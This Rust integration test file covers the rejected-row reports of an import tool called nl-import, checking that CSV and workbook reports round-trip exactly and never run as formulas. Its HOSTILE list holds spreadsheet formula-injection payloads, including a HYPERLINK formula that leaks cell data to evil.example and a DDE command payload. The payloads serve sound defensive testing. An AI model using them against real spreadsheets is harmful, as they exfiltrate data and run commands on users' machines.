//! The rejected-row reports as a data team uses them: opened in a spreadsheet, fixed, and
//! sent back. No cell of a report runs as a formula; `nl-import` reading its own report back
//! gets the exact values; a report sent back unchanged changes nothing in Naturalead; the
//! workbook has text cells, highlighted cells with notes and a summary sheet.
//!
//! LibreOffice (headless `soffice`) is used when it is installed: to open the CSV report as a
//! spreadsheet engine would and check that no cell became a formula, and to open the
//! workbook. Without it those two checks are skipped with a loud message, unless
//! `NL_REQUIRE_LIBREOFFICE=1` (set by `.ci/run` once it has installed it) makes a missing
//! LibreOffice a failure. Everything else reads the files back with `calamine` and `zip`.

use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use calamine::{Data, Reader, Xlsx, open_workbook};
use naturalead_sandbox::{Config, LeadInput};
use serde_json::Value;

mod common;

use common::*;

/// Values that spreadsheets run as formulas or mangle, each in a name and a custom field.
const HOSTILE: [&str; 12] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Click me\")",
    "=1+2",
    "+1+2",
    "-2+3",
    "@SUM(1)",
    "\t=1+2",
    "\r=1+2",
    "'=1+2",
    "''quoted",
    "=cmd|' /C calc'!A0",
    "0049301234",
    "4915112345678",
];

fn nl_import(dir: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_nl-import"))
        .current_dir(dir)
        .args(args)
        .env_remove("NATURALEAD_API_URL")
        .env_remove("NL_IMPORT_STATE")
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

/// A file where every row is rejected (a bad email) and carries a hostile value in its name
/// and `note` cells, its phone written with a `+`.
fn hostile_file(path: &Path) {
    let mut w = csv::Writer::from_path(path).unwrap();
    w.write_record(["lead_id", "name", "phone", "email", "note"])
        .unwrap();
    for (i, value) in HOSTILE.iter().enumerate() {
        w.write_record([&format!("h-{i}"), *value, &e164(i), "not-an-email", *value])
            .unwrap();
    }
    w.flush().unwrap();
}

/// Every cell of a CSV file, as the csv crate reads it.
fn csv_cells(path: &Path) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_path(path)
        .unwrap()
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// Cells as nl-import reads a CSV report back: the formula guard taken off.
fn unguarded(cells: Vec<Vec<String>>) -> Vec<Vec<String>> {
    cells
        .into_iter()
        .map(|row| {
            row.into_iter()
                .map(|c| c.strip_prefix('\'').map(str::to_owned).unwrap_or(c))
                .collect()
        })
        .collect()
}

/// `soffice`, when installed; otherwise a loud skip (or a failure under
/// `NL_REQUIRE_LIBREOFFICE=1`).
fn soffice(what: &str) -> Option<&'static str> {
    let found = Command::new("soffice")
        .arg("--version")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    if found {
        return Some("soffice");
    }
    assert!(
        std::env::var_os("NL_REQUIRE_LIBREOFFICE").is_none(),
        "NL_REQUIRE_LIBREOFFICE is set but `soffice` is not installed"
    );
    eprintln!(
        "\n*** SKIPPED: {what}: LibreOffice (`soffice`) is not installed; \
         `apt-get install libreoffice-calc-nogui` to run it ***\n"
    );
    None
}

/// Converts `input` with headless LibreOffice into `format` in `out`; returns the result.
fn convert(soffice: &str, input: &Path, format: &str, out: &Path) -> PathBuf {
    // A profile of its own, so parallel tests do not share (and lock) one.
    let profile = out.join("lo-profile");
    let status = Command::new(soffice)
        .arg(format!(
            "-env:UserInstallation=file://{}",
            profile.display()
        ))
        .args(["--headless", "--convert-to", format, "--outdir"])
        .arg(out)
        .arg(input)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .unwrap();
    assert!(status.success(), "soffice --convert-to {format} failed");
    let ext = format.split(':').next().unwrap();
    let converted = out.join(input.with_extension(ext).file_name().unwrap());
    assert!(converted.exists(), "{} not written", converted.display());
    converted
}

#[test]
fn no_report_cell_is_a_formula_and_values_come_back_exact() {
    let wd = tempfile::tempdir().unwrap();
    let dir = wd.path();
    hostile_file(&dir.join("hostile.csv"));
    std::fs::write(dir.join("map.toml"), "[columns]\nnote = \"custom:note\"\n").unwrap();
    let out = nl_import(
        dir,
        &[
            "check",
            "hostile.csv",
            "--report-dir",
            "r1",
            "--mapping",
            "map.toml",
        ],
    );
    assert_exit(&out, 3);
    let report = dir.join("r1/rejected.csv");
    let bytes = std::fs::read(&report).unwrap();
    assert!(bytes.starts_with("\u{FEFF}".as_bytes()), "UTF-8 with a BOM");

    // No cell starts with a character that makes it a formula; the guarded ones are quoted.
    let cells = csv_cells(&report);
    assert_eq!(cells.len(), 1 + HOSTILE.len());
    for row in &cells {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']),
                "{cell:?} in {row:?}"
            );
        }
    }
    for line in String::from_utf8_lossy(&bytes).lines().skip(1) {
        assert!(line.starts_with('"'), "every cell quoted: {line}");
    }

    // As a spreadsheet engine reads it: no formula anywhere, and the phone stays text.
    if let Some(soffice) = soffice("the CSV report opened by LibreOffice") {
        let xlsx = convert(soffice, &report, "xlsx", &dir.join("lo"));
        let mut book: Xlsx<_> = open_workbook(&xlsx).unwrap();
        let sheet = book.sheet_names()[0].clone();
        let formulas = book.worksheet_formula(&sheet).unwrap();
        let live: Vec<&String> = formulas.used_cells().map(|(_, _, f)| f).collect();
        assert!(live.is_empty(), "formulas in the report: {live:?}");
        let range = book.worksheet_range(&sheet).unwrap();
        let phone_col = cells[0].iter().position(|h| h == "phone").unwrap();
        for row in range.rows().skip(1) {
            assert!(
                matches!(&row[phone_col], Data::String(s) if s.starts_with("'+1212")),
                "the phone is text: {:?}",
                row[phone_col]
            );
        }
    }

    // nl-import reads its report back exactly: fix only the email of every row and check
    // the leads it would send.
    let header = &cells[0];
    let email_col = header.iter().position(|h| h == "email").unwrap();
    let mut w = csv::Writer::from_path(dir.join("fixed.csv")).unwrap();
    for (i, row) in cells.iter().enumerate() {
        let mut row = row.clone();
        if i > 0 {
            row[email_col] = format!("lead{i}@example.com");
        }
        w.write_record(&row).unwrap();
    }
    w.flush().unwrap();
    drop(w);
    let emit = |file: &str, dir_name: &str| -> Vec<Value> {
        let out = nl_import(
            dir,
            &[
                "check",
                file,
                "--report-dir",
                dir_name,
                "--emit-valid",
                "-",
                "--mapping",
                "map.toml",
            ],
        );
        assert_exit(&out, 0);
        text(&out.stdout)
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    };
    let leads = emit("fixed.csv", "r2");
    assert_eq!(leads.len(), HOSTILE.len());
    // The same leads as the original file with the same emails fixed would give.
    let mut original = std::fs::read_to_string(dir.join("hostile.csv")).unwrap();
    for i in 1..=HOSTILE.len() {
        original = original.replacen("not-an-email", &format!("lead{i}@example.com"), 1);
    }
    std::fs::write(dir.join("original-fixed.csv"), original).unwrap();
    assert_eq!(leads, emit("original-fixed.csv", "r2b"));
    for (i, lead) in leads.iter().enumerate() {
        assert_eq!(lead["lead_id"], format!("h-{i}"));
        assert_eq!(lead["phone"], e164(i));
        // Validation trims names and custom fields; the rest is the value as it was.
        assert_eq!(
            lead["name"].as_str().unwrap_or(""),
            HOSTILE[i].trim(),
            "{i}"
        );
        assert_eq!(lead["customFields"]["note"], HOSTILE[i].trim(), "{i}");
    }

    // An unchanged report checked again gives the same report: same rows, same classes,
    // same cells (only `_fix` says the rows came back unchanged).
    let out = nl_import(
        dir,
        &[
            "check",
            "r1/rejected.csv",
            "--report-dir",
            "r3",
            "--mapping",
            "map.toml",
        ],
    );
    assert_exit(&out, 3);
    assert!(
        text(&out.stderr).contains("came back unchanged"),
        "{}",
        text(&out.stderr)
    );
    let again = csv_cells(&dir.join("r3/rejected.csv"));
    assert_eq!(again.len(), cells.len());
    for (a, b) in again.iter().zip(&cells) {
        let fix = 4;
        assert_eq!(a[..fix], b[..fix]);
        assert_eq!(a[fix + 1..], b[fix + 1..]);
    }
}

/// Imports `csv` into the sandbox with the fast pacing and the given source.
fn import(env: &Env, csv: &str, source: &str) -> Output {
    let mut args = fast();
    args.extend(["--source", source]);
    env.import(&env.path(csv), &args)
}

#[test]
fn a_report_sent_back_unchanged_changes_nothing_and_keeps_its_row_numbers() {
    let env = Env::start(Config::default());
    // A phone of the file already belongs to another lead of the account.
    env.sandbox()
        .state()
        .insert_lead(LeadInput::new(e164(7)).with_lead_id("other-7"))
        .unwrap();
    let mut rows = String::from("lead_id,name,phone,email,status\n");
    for n in 0..10 {
        rows.push_str(&format!("id-{n},Lead {n},{},,new\n", phone(n)));
    }
    // Row 11: the same lead_id as row 1 (a duplicate in the file); row 12: the same phone
    // as row 2; row 13: a bad email; row 14: a multi-line cell, so lines and rows differ.
    rows.push_str(&format!("id-0,Second Zero,{},,qualified\n", phone(50)));
    rows.push_str(&format!("id-51,Same Phone,{},,contacted\n", phone(1)));
    rows.push_str(&format!("id-52,Bad Email,{},bad@,new\n", phone(52)));
    rows.push_str(&format!("id-53,\"Two\nLines\",{},bad@,new\n", phone(53)));
    std::fs::write(env.path("leads.csv"), rows).unwrap();

    let first = import(&env, "leads.csv", "crm");
    assert_exit(&first, 3);
    let report = env.rejected_csv();
    let brief = |report: &[Vec<String>]| -> Vec<(String, String, String)> {
        report
            .iter()
            .map(|r| (r[0].clone(), r[1].clone(), r[5].clone()))
            .collect()
    };
    // (`_row`, class, `_line`) in report order.
    let expected: Vec<(String, String, String)> = [
        ("13", "invalid_email", "14"),
        ("14", "invalid_email", "15"),
        ("11", "duplicate_in_file", "12"),
        ("12", "duplicate_in_file", "13"),
        ("8", "duplicate_in_account", "9"),
    ]
    .iter()
    .map(|(r, c, l)| ((*r).to_owned(), (*c).to_owned(), (*l).to_owned()))
    .collect();
    assert_eq!(brief(&report), expected);
    let before = env.leads_by_id();
    assert_eq!(before.len(), 10, "9 of ours and the other lead");
    let requests = sync_requests(&env).len();

    // Sent back unchanged, three times over: nothing reaches the API, every row is
    // rejected again with its class, and `_row` and `_line` stay those of leads.csv.
    for round in 0..3 {
        std::fs::copy(env.path("reports/rejected.csv"), env.path("back.csv")).unwrap();
        let out = import(&env, "back.csv", "crm");
        assert_exit(&out, 3);
        assert_eq!(brief(&env.rejected_csv()), expected, "round {round}");
        assert_eq!(env.summary()["rejections"]["unchanged_rows"], 5);
    }
    assert_eq!(sync_requests(&env).len(), requests, "nothing was sent");
    assert_eq!(env.leads_by_id(), before, "no lead changed");

    // The workbook, sent back as it is, would change nothing either: its rows carry the same
    // cells (text) and fingerprints.
    let book = read_rows_sheet(&env.path("reports/rejected.xlsx"));
    assert_eq!(
        book,
        unguarded(csv_cells(&env.path("reports/rejected.csv")))
    );
    // And it does: the workbook itself, imported as it is (its rows sheet is read).
    std::fs::copy(env.path("reports/rejected.xlsx"), env.path("back.xlsx")).unwrap();
    let out = import(&env, "back.xlsx", "crm");
    assert_exit(&out, 3);
    assert_eq!(
        brief(&env.rejected_csv()),
        expected,
        "the workbook sent back"
    );
    assert_eq!(env.summary()["rejections"]["unchanged_rows"], 5);
    assert_eq!(sync_requests(&env).len(), requests, "nothing was sent");
    assert_eq!(env.leads_by_id(), before, "no lead changed");

    // A workbook fixed in a spreadsheet: one email corrected, the rest as it was.
    let mut fixed_book = rust_xlsxwriter::Workbook::new();
    fixed_book.add_worksheet().set_name("Summary").unwrap();
    let sheet = fixed_book.add_worksheet();
    sheet.set_name("Rejected rows").unwrap();
    let email_at = book[0].iter().position(|h| h == "email").unwrap();
    for (r, row) in book.iter().enumerate() {
        for (c, cell) in row.iter().enumerate() {
            let cell = if r == 2 && c == email_at {
                "fixed2@example.com"
            } else {
                cell
            };
            sheet.write_string(r as u32, c as u16, cell).unwrap();
        }
    }
    fixed_book.save(env.path("fixed-book.xlsx")).unwrap();
    let out = import(&env, "fixed-book.xlsx", "crm");
    assert_exit(&out, 3);
    let after = env.leads_by_id();
    assert_eq!(after.len(), 11, "the fixed row arrived");
    assert_eq!(after["id-53"].lead.email, "fixed2@example.com");
    assert_eq!(after["id-53"].lead.name, "Two\nLines");
    let mut left = expected.clone();
    left.remove(1);
    assert_eq!(brief(&env.rejected_csv()), left);
    let requests = sync_requests(&env).len();
    let before = after;

    // An edited row is checked afresh: the data team fixes one email and sends it back.
    let mut fixed = csv_cells(&env.path("reports/rejected.csv"));
    let email = fixed[0].iter().position(|h| h == "email").unwrap();
    fixed[1][email] = "fixed@example.com".into();
    let mut w = csv::Writer::from_path(env.path("fixed.csv")).unwrap();
    for row in &fixed {
        w.write_record(row).unwrap();
    }
    w.flush().unwrap();
    drop(w);
    let out = import(&env, "fixed.csv", "crm");
    assert_exit(&out, 3);
    let after = env.leads_by_id();
    assert_eq!(after.len(), 12);
    assert_eq!(after["id-52"].lead.email, "fixed@example.com");
    // The winners of the duplicates are untouched.
    assert_eq!(after["id-0"], before["id-0"]);
    assert_eq!(after["id-1"], before["id-1"]);
    assert_eq!(after["other-7"], before["other-7"]);
    assert_eq!(
        sync_requests(&env).len(),
        requests + 1,
        "one request, for the fixed row"
    );
    let left = brief(&env.rejected_csv());
    assert_eq!(left, expected[2..].to_vec());
}

#[test]
fn a_wrong_width_row_sent_back_unchanged_in_either_report_stays_rejected() {
    let env = Env::start(Config::default());
    let rows = format!(
        "lead_id,name,phone,note\nid-1,Good,{},ok\nid-2,Too Many,{},note,extra cell\nid-3,Too Few,{}\n",
        phone(1),
        phone(2),
        phone(3)
    );
    std::fs::write(env.path("leads.csv"), rows).unwrap();
    let first = import(&env, "leads.csv", "crm");
    assert_exit(&first, 3);
    let classes = |report: &[Vec<String>]| -> Vec<(String, String)> {
        report[1..]
            .iter()
            .map(|r| (r[0].clone(), r[1].clone()))
            .collect()
    };
    let expected = vec![
        ("2".to_owned(), "malformed_row".to_owned()),
        ("3".to_owned(), "malformed_row".to_owned()),
    ];
    let csv_report = csv_cells(&env.path("reports/rejected.csv"));
    assert_eq!(classes(&csv_report), expected);
    // The workbook holds the extra cell too, past the last named column.
    let book = read_rows_sheet(&env.path("reports/rejected.xlsx"));
    let too_many = book
        .iter()
        .find(|r| r.contains(&"Too Many".to_owned()))
        .unwrap();
    assert_eq!(too_many.last().unwrap(), "extra cell", "{too_many:?}");
    let requests = sync_requests(&env).len();
    let before = env.leads_by_id();
    assert_eq!(before.len(), 1);

    for back in ["back.csv", "back.xlsx"] {
        let from = if back.ends_with("csv") {
            "rejected.csv"
        } else {
            "rejected.xlsx"
        };
        std::fs::copy(env.path(&format!("reports/{from}")), env.path(back)).unwrap();
        let out = import(&env, back, "crm");
        assert_exit(&out, 3);
        assert_eq!(
            classes(&csv_cells(&env.path("reports/rejected.csv"))),
            expected,
            "{back}"
        );
        assert_eq!(
            sync_requests(&env).len(),
            requests,
            "{back}: nothing was sent"
        );
        assert_eq!(env.leads_by_id(), before, "{back}: no lead changed");
    }
}

/// The rows sheet of a workbook, every cell as text (a cell that is not text fails).
fn read_rows_sheet(path: &Path) -> Vec<Vec<String>> {
    let mut book: Xlsx<_> = open_workbook(path).unwrap();
    assert_eq!(book.sheet_names(), ["Summary", "Rejected rows"]);
    let range = book.worksheet_range("Rejected rows").unwrap();
    range
        .rows()
        .map(|row| {
            row.iter()
                .map(|cell| match cell {
                    Data::String(s) => s.clone(),
                    Data::Empty => String::new(),
                    other => panic!("a cell that is not text: {other:?}"),
                })
                .collect()
        })
        .collect()
}

/// A part of the workbook's zip, as text.
fn part(path: &Path, name: &str) -> String {
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    let mut text = String::new();
    zip.by_name(name)
        .unwrap_or_else(|_| panic!("{name} in the workbook"))
        .read_to_string(&mut text)
        .unwrap();
    text
}

/// The style index of cell `at` (`J3`) in a worksheet's XML.
fn style_of(sheet: &str, at: &str) -> usize {
    let start = sheet
        .find(&format!("<c r=\"{at}\""))
        .unwrap_or_else(|| panic!("cell {at}"));
    let cell = &sheet[start..start + sheet[start..].find('>').unwrap()];
    cell.split("s=\"")
        .nth(1)
        .map_or(0, |s| s[..s.find('"').unwrap()].parse().unwrap())
}

/// Whether style `index` of `styles.xml` fills the cell with a colour.
fn is_filled(styles: &str, index: usize) -> bool {
    let xfs = &styles[styles.find("<cellXfs").unwrap()..];
    let xf = xfs.split("<xf ").nth(index + 1).unwrap();
    let fill: usize = xf
        .split("fillId=\"")
        .nth(1)
        .map_or(0, |s| s[..s.find('"').unwrap()].parse().unwrap());
    // Fills 0 and 1 are the two every workbook has (none, gray125).
    fill > 1
}

fn column_letter(mut c: usize) -> String {
    let mut name = Vec::new();
    loop {
        name.push(b'A' + (c % 26) as u8);
        if c < 26 {
            break;
        }
        c = c / 26 - 1;
    }
    name.reverse();
    String::from_utf8(name).unwrap()
}

/// Checks a workbook against the CSV report beside it: the same rows as text, the offending
/// cell of each row highlighted with a note, the summary sheet.
fn check_workbook(dir: &Path, bad_column: &str, hint: &str) {
    let csv = csv_cells(&dir.join("rejected.csv"));
    let xlsx = dir.join("rejected.xlsx");
    let rows = read_rows_sheet(&xlsx);
    assert_eq!(rows.len(), csv.len());
    assert_eq!(rows[0], csv[0], "the same header, report columns first");
    // The CSV's cells are guarded; the workbook's are the values themselves.
    assert_eq!(rows, unguarded(csv));
    let column = rows[0].iter().position(|h| h == bad_column).unwrap();
    let sheet = part(&xlsx, "xl/worksheets/sheet2.xml");
    let styles = part(&xlsx, "xl/styles.xml");
    let comments = part(&xlsx, "xl/comments1.xml");
    assert!(sheet.contains("state=\"frozen\""), "frozen header");
    assert!(
        part(&xlsx, "xl/workbook.xml").contains("_xlnm._FilterDatabase"),
        "autofilter"
    );
    for (i, row) in rows.iter().enumerate().skip(1) {
        let at = format!("{}{}", column_letter(column), i + 1);
        assert!(
            is_filled(&styles, style_of(&sheet, &at)),
            "{at} is highlighted"
        );
        let note_at = comments
            .find(&format!("ref=\"{at}\""))
            .unwrap_or_else(|| panic!("a note on {at}"));
        let note = &comments[note_at..];
        let note = &note[..note.find("</comment>").unwrap()];
        assert!(note.contains(&row[1]), "the class in the note: {note}");
        assert!(note.contains("Fix:"), "{note}");
        // The other data cells are not highlighted.
        let name = rows[0].iter().position(|h| h == "name").unwrap();
        if name != column {
            let other = format!("{}{}", column_letter(name), i + 1);
            assert!(!is_filled(&styles, style_of(&sheet, &other)), "{other}");
        }
    }
    // Every cell of the rows sheet is formatted as text, so typing into it stays text.
    assert!(styles.contains("formatCode=\"@\"") || styles.contains("numFmtId=\"49\""));

    let mut book: Xlsx<_> = open_workbook(&xlsx).unwrap();
    let summary = book.worksheet_range("Summary").unwrap();
    let text: Vec<String> = summary
        .rows()
        .flat_map(|r| r.iter().map(|c| c.to_string()))
        .collect();
    assert!(
        text.iter().any(|t| t == hint),
        "the fix on the summary sheet"
    );
    assert!(
        text.iter().any(|t| t.contains(bad_column)),
        "the column involved"
    );
}

#[test]
fn check_and_import_write_a_workbook_with_text_cells_highlights_and_notes() {
    let env = Env::start(Config::default());
    let mut rows = String::from("lead_id,name,phone,email,status,account\n");
    rows.push_str("a-1,Ada,+14155552671,ada@example.com,new,1\n");
    rows.push_str("a-2,=1+2,+14155552672,bad@,new,0049301234\n");
    rows.push_str("a-3,Bea,+14155552673,also@bad@,new,4915112345678\n");
    rows.push_str("a-4,@me,+14155552674,x@,new,-1\n");
    std::fs::write(env.path("leads.csv"), rows).unwrap();

    let out = nl_import(
        env.dir.path(),
        &["check", "leads.csv", "--report-dir", "check"],
    );
    assert_exit(&out, 3);
    assert!(text(&out.stdout).contains("rejected.xlsx"));
    let hint = "correct the address or leave it empty";
    check_workbook(&env.path("check"), "email", hint);
    let book = read_rows_sheet(&env.path("check/rejected.xlsx"));
    let phone = book[0].iter().position(|h| h == "phone").unwrap();
    let account = book[0].iter().position(|h| h == "account").unwrap();
    assert_eq!(book[1][phone], "+14155552672");
    assert_eq!(book[1][account], "0049301234", "the leading zeros kept");
    assert_eq!(book[2][account], "4915112345678", "digits, not 4.91511E+12");
    assert_eq!(book[3][account], "-1");
    assert_eq!(
        book[1][book[0].iter().position(|h| h == "name").unwrap()],
        "=1+2"
    );

    let out = import(&env, "leads.csv", "crm");
    assert_exit(&out, 3);
    check_workbook(&env.path("reports"), "email", hint);
    assert_eq!(
        read_rows_sheet(&env.path("reports/rejected.xlsx")),
        book,
        "import and check write the same workbook rows"
    );

    let summary = env.summary();
    let classes = summary["rejections"]["classes"].as_array().unwrap();
    assert_eq!(classes.len(), 1);
    let email = &classes[0];
    assert_eq!(email["class"], "invalid_email");
    assert_eq!(email["rows"], 3);
    assert_eq!(email["fix"], hint);
    assert_eq!(email["example"]["row"], 2);
    assert_eq!(email["example"]["line"], 3);
    assert_eq!(email["columns"][0]["column"], "email");
    assert_eq!(email["columns"][0]["problems"], 3);
    assert_eq!(email["lines"], serde_json::json!([3, 4, 5]));
    assert_eq!(summary["rejections"]["workbook"]["rows"], 3);
    assert_eq!(summary["reports"]["rejected_xlsx"], "reports/rejected.xlsx");

    // LibreOffice opens the workbook (headless, no repair) and sees the same cells.
    if let Some(soffice) = soffice("the workbook opened by LibreOffice") {
        let converted = convert(
            soffice,
            &env.path("reports/rejected.xlsx"),
            "ods",
            &env.path("lo"),
        );
        let mut ods: calamine::Ods<_> = open_workbook(&converted).unwrap();
        assert_eq!(ods.sheet_names(), ["Summary", "Rejected rows"]);
        let range = ods.worksheet_range("Rejected rows").unwrap();
        let again: Vec<Vec<String>> = range
            .rows()
            .map(|r| r.iter().map(|c| c.to_string()).collect())
            .collect();
        assert_eq!(again, book);

        // The rows sheet saved as CSV by LibreOffice (what a data team does until workbook
        // input exists) is read back as the report it is: every row unchanged, rejected
        // again with its class, nothing valid.
        let filter = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,2";
        let saved = env.path("lo2");
        let status = Command::new(soffice)
            .arg(format!(
                "-env:UserInstallation=file://{}",
                saved.join("lo-profile").display()
            ))
            .args(["--headless", "--convert-to", filter, "--outdir"])
            .arg(&saved)
            .arg(env.path("reports/rejected.xlsx"))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .unwrap();
        assert!(status.success());
        std::fs::rename(
            saved.join("rejected-Rejected rows.csv"),
            env.path("saved.csv"),
        )
        .unwrap();
        let out = nl_import(
            env.dir.path(),
            &[
                "check",
                "saved.csv",
                "--report-dir",
                "saved",
                "--emit-valid",
                "-",
            ],
        );
        assert_exit(&out, 3);
        assert!(text(&out.stdout).is_empty(), "{}", text(&out.stdout));
        let rows = csv_cells(&env.path("saved/rejected.csv"));
        let first = csv_cells(&env.path("check/rejected.csv"));
        assert_eq!(rows.len(), first.len());
        for (a, b) in rows.iter().zip(&first) {
            assert_eq!(a[..4], b[..4]);
            assert_eq!(a[5..], b[5..]);
        }
    }
}

#[test]
fn undecodable_bytes_stay_visible_and_such_a_row_sent_back_unchanged_stays_rejected() {
    let wd = tempfile::tempdir().unwrap();
    let dir = wd.path();
    std::fs::write(
        dir.join("bytes.csv"),
        b"name,phone,city\nAda,+14155552671,Paris\nJos\xE9,+14155552672,M\xFCnchen\n".as_slice(),
    )
    .unwrap();
    // Read as UTF-8 (otherwise the file would be recognised as Windows-1252).
    let out = nl_import(
        dir,
        &[
            "check",
            "bytes.csv",
            "--report-dir",
            "r1",
            "--encoding",
            "utf-8",
        ],
    );
    assert_exit(&out, 3);
    let cells = csv_cells(&dir.join("r1/rejected.csv"));
    let row = &cells[1];
    assert_eq!(row[1], "malformed_row");
    assert_eq!(row[2], "name;city", "which cells held undecodable bytes");
    assert_eq!(row[7], "Jos\\xE9");
    assert_eq!(row[9], "M\\xFCnchen");
    // Sent back unchanged, it is not imported with `\xE9` in the name.
    let out = nl_import(
        dir,
        &[
            "check",
            "r1/rejected.csv",
            "--report-dir",
            "r2",
            "--emit-valid",
            "-",
        ],
    );
    assert_exit(&out, 3);
    assert!(text(&out.stdout).is_empty(), "{}", text(&out.stdout));
    assert_eq!(
        csv_cells(&dir.join("r2/rejected.csv"))[1][1],
        "malformed_row"
    );
}

#[test]
fn a_report_checked_where_it_lies_is_refused_rather_than_overwritten() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("export.csv"),
        "name,phone,email\nOne,+4930901820,bad@\nTwo,+4930901821,\n",
    )
    .unwrap();
    assert_exit(&nl_import(dir.path(), &["check", "export.csv"]), 3);
    // Round 1's report, checked as it is: its reports go to .nl-import/reports/rejected/.
    let round1 = ".nl-import/reports/export/rejected.csv";
    assert_exit(&nl_import(dir.path(), &["check", round1]), 3);
    // Round 2's report, fixed by hand where it lies, then checked there: the run would
    // write its report over it.
    let round2 = dir.path().join(".nl-import/reports/rejected/rejected.csv");
    let fixed = std::fs::read_to_string(&round2)
        .unwrap()
        .replace("bad@", "fixed@example.com");
    std::fs::write(&round2, &fixed).unwrap();
    let out = nl_import(
        dir.path(),
        &["check", ".nl-import/reports/rejected/rejected.csv"],
    );
    assert_exit(&out, 2);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("--report-dir"), "{stderr}");
    assert_eq!(
        std::fs::read_to_string(&round2).unwrap(),
        fixed,
        "the fixes are kept"
    );
    // Its own --emit-valid over it is refused too; another report directory is fine.
    let out = nl_import(
        dir.path(),
        &["check", "export.csv", "--emit-valid", "export.csv"],
    );
    assert_exit(&out, 2);
    let out = nl_import(
        dir.path(),
        &[
            "check",
            ".nl-import/reports/rejected/rejected.csv",
            "--report-dir",
            "round3",
        ],
    );
    assert_exit(&out, 0);
}
